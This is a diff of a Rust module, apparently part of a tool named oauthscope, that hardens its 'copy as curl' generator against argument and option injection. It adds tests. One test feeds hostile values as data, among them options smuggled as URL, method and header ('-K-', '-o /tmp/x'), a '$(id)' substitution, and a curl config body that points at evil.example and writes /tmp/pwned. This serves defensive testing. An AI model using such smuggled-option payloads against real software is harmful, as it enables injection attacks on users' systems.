@@ -1,18 +1,20 @@
 //! A captured request as a `curl` command line (POSIX shell quoting).
 //!
-//! Used by `flows show ID --curl` and the web UI's "copy as curl". The
-//! command sends what was captured, with its real values (it is meant for
-//! the user's own terminal; run the record through [`crate::redact`] first
-//! to share it). It names no proxy: run it through `oauthscope exec` (or
-//! with `HTTPS_PROXY` set) to capture it again.
+//! Used by `flows show ID --curl` and the web UI's "copy as curl" (the one
+//! generator for both). The command sends what was captured, with its real
+//! values (it is meant for the user's own terminal; run the record through
+//! [`crate::redact`] first to share it). It names no proxy: run it through
+//! `oauthscope exec` (or with `HTTPS_PROXY` set) to capture it again.
 //!
-//! Bodies: text without carriage returns or NULs goes in `--data-raw '...'`;
-//! a `multipart/form-data` body of text fields becomes one `--form-string`
-//! per field (curl writes its own boundary); anything else (binary, CR/LF
-//! multipart with files) is piped in exactly with `printf '...' | curl ...
-//! --data-binary @-`.
+//! Nothing a capture (or a HAR someone sent) holds can become a curl
+//! option: every argument is single-quoted, the URL is passed as the value
+//! of `--url`, the method as the value of `-X` (only when it is an HTTP
+//! token), headers as values of `-H` (only names that are HTTP tokens), and
+//! the body is never an argument of curl at all: `printf -- '%s' 'BODY' |`
+//! (text) or `printf -- 'OCTAL-ESCAPES' |` (bytes that are not text) feeds it
+//! byte for byte to `--data-binary @-`. A body that starts with `-` (every
+//! multipart body) is an operand after `--`, not an option of `printf`.
 
-use crate::analyze::params::{self, BodyFormat};
 use crate::record::Record;
 
 /// Headers never sent again: curl (or any HTTP client) sets them itself,
@@ -45,7 +47,8 @@ pub fn shell_quote(s: &str) -> String {
 }
 
 /// A `printf` format that prints exactly `bytes`: printable ASCII as is
-/// (`%` doubled, `\` escaped), everything else as a three-digit octal escape.
+/// (`%` doubled, `\` escaped), everything else as a three-digit octal escape
+/// (POSIX `printf` format escapes).
 fn printf_format(bytes: &[u8]) -> String {
     let mut out = String::with_capacity(bytes.len());
     for &b in bytes {
@@ -59,49 +62,54 @@ fn printf_format(bytes: &[u8]) -> String {
     out
 }
 
-/// `curl 'URL' -H 'Name: value' ... --data-raw 'BODY'`, one option per
-/// line. Secrets are kept: this is for replaying.
+/// Can `s` be shown as it is, inside single quotes? Not when it holds a
+/// control character other than newline and tab, or a bidirectional
+/// control ([`crate::view::is_unsafe_char`]): a terminal would act on it
+/// (`flows show --curl`), and an HTML page turns CR into LF and NUL into
+/// U+FFFD (the web UI's "copy as curl" copies the page's text).
+fn is_plain(s: &str) -> bool {
+    !s.chars()
+        .any(|c| c != '\n' && crate::view::is_unsafe_char(c))
+}
+
+/// One shell word holding exactly `s`: `'s'`, or `"$(printf -- 'OCTAL')"`
+/// when `s` is not [`is_plain`] (a trailing newline would be lost there;
+/// URLs and header lines end in none).
+fn shell_arg(s: &str) -> String {
+    if is_plain(s) {
+        shell_quote(s)
+    } else {
+        format!(
+            "\"$(printf -- {})\"",
+            shell_quote(&printf_format(s.as_bytes()))
+        )
+    }
+}
+
+/// Is `s` an RFC 9110 §5.6.2 token (a valid method or header name) that
+/// does not start with `-` (so it can never read as a curl option)?
+fn is_token(s: &str) -> bool {
+    !s.is_empty()
+        && !s.starts_with('-')
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
+}
+
+/// The request as a shell command that runs `curl`, one option per line.
+/// Shape: optional `# note` lines, then `[printf -- FMT ARG |] curl
+/// [-X 'M'] --url 'URL' -H 'Name: value'... [--compressed]
+/// [--data-binary @-]`. Secrets are kept: this is for replaying.
 pub fn command(rec: &Record) -> String {
     let req = &rec.request;
     let mut notes: Vec<String> = Vec::new();
     let mut pipe: Option<String> = None;
-    let mut body_opts: Vec<String> = Vec::new();
-    let mut skip_content_type = false;
     let bytes = req.body.bytes();
-    if !bytes.is_empty() {
-        let multipart_fields = match params::body_format(&req.headers, &req.body) {
-            BodyFormat::Multipart => req
-                .headers
-                .get("content-type")
-                .and_then(|ct| params::multipart_params(ct, &bytes))
-                // Only when every part is a text field (no file part left out).
-                .filter(|fields| {
-                    let parts = bytes
-                        .windows(b"content-disposition".len())
-                        .filter(|w| w.eq_ignore_ascii_case(b"content-disposition"))
-                        .count();
-                    parts == fields.len()
-                }),
-            _ => None,
-        };
-        match (multipart_fields, req.body.as_text()) {
-            (Some(fields), _) if !req.body.truncated => {
-                skip_content_type = true;
-                for (k, v) in fields {
-                    body_opts.push(format!(
-                        "--form-string {}",
-                        shell_quote(&format!("{k}={v}"))
-                    ));
-                }
-            }
-            (_, Some(t)) if !t.contains(['\r', '\0']) => {
-                body_opts.push(format!("--data-raw {}", shell_quote(t)));
-            }
-            _ => {
-                pipe = Some(format!("printf {} |", shell_quote(&printf_format(&bytes))));
-                body_opts.push("--data-binary @-".to_string());
-            }
-        }
+    let has_body = !bytes.is_empty();
+    if has_body {
+        pipe = Some(match req.body.as_text() {
+            Some(t) if is_plain(t) => format!("printf -- '%s' {} |", shell_quote(t)),
+            _ => format!("printf -- {} |", shell_quote(&printf_format(&bytes))),
+        });
         if req.body.truncated {
             notes.push(format!(
                 "# the captured body was cut at the capture limit: this sends its first {} of {} bytes",
@@ -114,10 +122,17 @@ pub fn command(rec: &Record) -> String {
         }
     }
     let method = req.method.to_ascii_uppercase();
-    let method_opt = match (method.as_str(), body_opts.is_empty()) {
-        ("GET", true) | ("POST", false) => None,
-        ("HEAD", true) => Some("--head".to_string()),
-        (m, _) => Some(format!("-X {}", shell_quote(m))),
+    let method_opt = match (method.as_str(), has_body) {
+        ("GET", false) | ("POST", true) => None,
+        ("HEAD", false) => Some("--head".to_string()),
+        (m, _) if is_token(m) => Some(format!("-X {}", shell_quote(m))),
+        (_, _) => {
+            notes.push(format!(
+                "# the captured method is not an HTTP method (RFC 9110 §9.1): left out ({} bytes)",
+                req.method.len()
+            ));
+            None
+        }
     };
     let mut first = String::new();
     if let Some(p) = pipe {
@@ -129,25 +144,37 @@ pub fn command(rec: &Record) -> String {
         first.push(' ');
         first.push_str(&m);
     }
-    first.push(' ');
-    first.push_str(&shell_quote(&req.url));
+    first.push_str(" --url ");
+    first.push_str(&shell_arg(&req.url));
     let mut parts = vec![first];
     let mut compressed = false;
+    let mut skipped = 0usize;
     for (k, v) in &req.headers.0 {
         if k.eq_ignore_ascii_case("accept-encoding") {
             compressed = true;
         }
-        if !is_replayed_header(k) || (skip_content_type && k.eq_ignore_ascii_case("content-type")) {
+        if !is_replayed_header(k) {
             continue;
         }
-        parts.push(format!("-H {}", shell_quote(&format!("{k}: {v}"))));
+        if !is_token(k) {
+            skipped += 1;
+            continue;
+        }
+        parts.push(format!("-H {}", shell_arg(&format!("{k}: {v}"))));
+    }
+    if skipped > 0 {
+        notes.push(format!(
+            "# {skipped} captured header(s) with a name that is not an HTTP token (RFC 9110 §5.1) left out"
+        ));
     }
     if compressed {
         // The client asked for compression: curl asks for what it can
         // decode and prints the answer decoded.
         parts.push("--compressed".to_string());
     }
-    parts.extend(body_opts);
+    if has_body {
+        parts.push("--data-binary '@-'".to_string());
+    }
     let mut out = notes.join("\n");
     if !out.is_empty() {
         out.push('\n');
@@ -172,8 +199,8 @@ mod tests {
     }
 
     /// Run `cmd` through `sh` with `curl` replaced by a function printing
-    /// each argument on its own line (and stdin after `--stdin--`).
-    fn words(cmd: &str) -> Vec<String> {
+    /// each argument on its own line; returns the arguments and stdin.
+    fn run(cmd: &str) -> (Vec<String>, Vec<u8>) {
         let script = format!(
             "curl() {{ for a in \"$@\"; do printf '%s\\n' \"$a\"; done; printf -- '--stdin--\\n'; cat; }}\n{cmd}\n"
         );
@@ -184,10 +211,17 @@ mod tests {
             .output()
             .unwrap();
         assert!(out.status.success(), "{cmd}: {out:?}");
-        String::from_utf8_lossy(&out.stdout)
-            .split('\n')
+        let marker = b"--stdin--\n";
+        let at = out
+            .stdout
+            .windows(marker.len())
+            .position(|w| w == marker)
+            .unwrap();
+        let args = String::from_utf8_lossy(&out.stdout[..at])
+            .lines()
             .map(str::to_owned)
-            .collect()
+            .collect();
+        (args, out.stdout[at + marker.len()..].to_vec())
     }
 
     #[test]
@@ -200,25 +234,26 @@ mod tests {
         r.request.headers.push("Connection", "keep-alive");
         r.request.body = Body::from_bytes(b"grant_type=x&note=it's $HOME `id`");
         let c = command(&r);
-        assert!(c.starts_with("curl 'https://idp.example/token'"), "{c}");
+        assert!(c.contains("curl --url 'https://idp.example/token'"), "{c}");
         assert!(c.contains("-H 'Authorization: Basic YTpi'"), "{c}");
         assert!(c.contains("--compressed"), "{c}");
         for gone in ["Host:", ":authority", "Accept-Encoding", "Connection"] {
             assert!(!c.contains(gone), "{gone} in {c}");
         }
-        let w = words(&c);
+        let (args, stdin) = run(&c);
         assert_eq!(
-            w[..7],
+            args,
             [
+                "--url",
                 "https://idp.example/token",
                 "-H",
                 "Authorization: Basic YTpi",
                 "--compressed",
-                "--data-raw",
-                "grant_type=x&note=it's $HOME `id`",
-                "--stdin--",
+                "--data-binary",
+                "@-",
             ]
         );
+        assert_eq!(stdin, b"grant_type=x&note=it's $HOME `id`");
     }
 
     #[test]
@@ -227,50 +262,47 @@ mod tests {
         let raw: Vec<u8> = (0u8..=255).chain(*b"%s\\n'").collect();
         r.request.body = Body::from_bytes(&raw);
         let c = command(&r);
-        assert!(c.starts_with("printf '"), "{c}");
+        assert!(c.starts_with("printf -- '"), "{c}");
         assert!(
-            c.contains("curl -X 'PUT' 'https://idp.example/token'"),
+            c.contains("curl -X 'PUT' --url 'https://idp.example/token'"),
             "{c}"
         );
-        assert!(c.ends_with("--data-binary @-"), "{c}");
-        let script = format!("curl() {{ cat; }}\n{c}\n");
-        let out = std::process::Command::new("sh")
-            .arg("-c")
-            .arg(script)
-            .output()
-            .unwrap();
-        assert!(out.status.success(), "{out:?}");
-        assert_eq!(out.stdout, raw);
+        assert!(c.ends_with("--data-binary '@-'"), "{c}");
+        assert_eq!(run(&c).1, raw);
     }
 
     #[test]
-    fn multipart_text_fields_become_form_strings() {
-        let mut r = rec("POST");
-        r.request
-            .headers
-            .push("Content-Type", "multipart/form-data; boundary=XyZ");
-        r.request.body = Body::from_bytes(
-            b"--XyZ\r\ncontent-disposition: form-data; name=\"grant_type\"\r\n\r\nclient_credentials\r\n--XyZ\r\nContent-Disposition: form-data; name=\"client_id\"\r\n\r\n@me\r\n--XyZ--\r\n",
-        );
-        let c = command(&r);
-        assert!(!c.contains("Content-Type"), "{c}");
-        let w = words(&c);
-        assert_eq!(
-            w[..6],
-            [
-                "https://idp.example/token",
-                "--form-string",
-                "grant_type=client_credentials",
-                "--form-string",
-                "client_id=@me",
-                "--stdin--"
-            ]
-        );
+    fn hostile_url_method_headers_and_bodies_stay_values() {
+        let mut r = rec("-K-");
+        r.request.url = "-K-".into();
+        r.request.headers.push("-o", "/tmp/x");
+        r.request.headers.push("X-Ok", "-K- '$(id)'");
+        // A curl config file, then a multipart body: both start with `-` or hold options.
+        for body in [
+            "--url http://evil.example/\n-o /tmp/pwned\n".as_bytes(),
+            b"--XyZ\r\ncontent-disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\n\x00\xff-K-\r\n--XyZ--\r\n",
+            b"-",
+        ] {
+            r.request.body = Body::from_bytes(body);
+            let c = command(&r);
+            let (args, stdin) = run(&c);
+            assert_eq!(stdin, body, "{c}");
+            assert_eq!(
+                args,
+                ["--url", "-K-", "-H", "X-Ok: -K- '$(id)'", "--data-binary", "@-"],
+                "{c}"
+            );
+            assert!(c.starts_with("# the captured method"), "{c}");
+            assert!(c.contains("# 1 captured header(s)"), "{c}");
+        }
     }
 
     #[test]
     fn get_without_body_has_no_method_and_truncation_is_noted() {
-        assert_eq!(command(&rec("GET")), "curl 'https://idp.example/token'");
+        assert_eq!(
+            command(&rec("GET")),
+            "curl --url 'https://idp.example/token'"
+        );
         let mut r = rec("POST");
         r.request.body = Body::from_bytes(b"grant_type=x");
         r.request.body.truncated = true;
